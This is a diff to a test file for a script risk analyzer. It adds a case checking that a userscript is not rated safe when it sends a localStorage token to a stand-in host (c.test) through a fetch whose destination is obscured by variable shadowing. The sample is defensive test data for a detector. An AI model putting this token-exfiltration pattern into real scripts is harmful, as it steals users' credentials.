@@ -1,5 +1,6 @@
 import { describe, expect, test } from "vitest";
 import { analyzeScript } from "../analyze-script.ts";
+import { userscript } from "../testing/find-in.ts";
 
 /** What a program carries, what else the engine may take it for, and a use of it that is a theft. */
 const CARGOS = [
@@ -80,6 +81,12 @@ const PROGRAMS = WAYS.flatMap(([way, program]) =>
 describe("a secret on a way that is hard to follow", () => {
 	test.each(PROGRAMS)("is not green: %s by %s", (_title, _way, code) => {
 		expect(["amber", "red"]).toContain(analyzeScript({ code }).risk_level);
+	});
+
+	test("is not green in a userscript that may run without a function around it", () => {
+		const code = `var own = { to: "/a?c=" }; globalThis.own = { to: "https://c.test/?c=" }; fetch(own.to + localStorage.getItem("token"));`;
+		const script = userscript(["match https://shop.example/*", "grant none"], code);
+		expect(["amber", "red"]).toContain(analyzeScript({ code: script }).risk_level);
 	});
 });
 
